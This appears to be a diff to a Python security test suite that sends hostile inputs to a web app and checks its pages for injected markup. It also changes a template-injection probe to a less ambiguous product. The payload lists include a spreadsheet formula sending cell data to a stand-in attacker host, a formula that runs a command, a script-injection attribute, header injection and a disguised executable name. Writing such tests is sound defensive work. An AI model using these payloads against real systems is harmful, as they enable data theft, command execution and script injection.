@@ -24,7 +24,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|'/C calc'!A0", "@S
 WORDS = {
     "script": SCRIPT,
     "attribute": '" onmouseover="alert(1)" x="',
-    "template": "{{ 7 * 7 }}{% raw %}",
+    "template": "{{ 7919 * 7907 }}{% raw %}",
     "override": "\u202etxt.exe\u2066",
     "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
     "null-like": "\u2028\u2029\ufeff]]>",
@@ -107,7 +107,7 @@ def test_pages_have_no_markup_but_ours(hostile: Client, path: str, language: str
     assert not [name for _, attributes in found.tags for name in attributes if name.startswith("on")]
     assert not found.all("img")
     assert links <= {"", "http", "https"}
-    assert "{{ 7 * 7 }}" in text or "49" not in re.sub(r"[0-9a-f]{12,}", "", text)
+    assert "{{ 7919 * 7907 }}" in text or "62615533" not in text
 
 
 @pytest.mark.parametrize("path", PAGES)
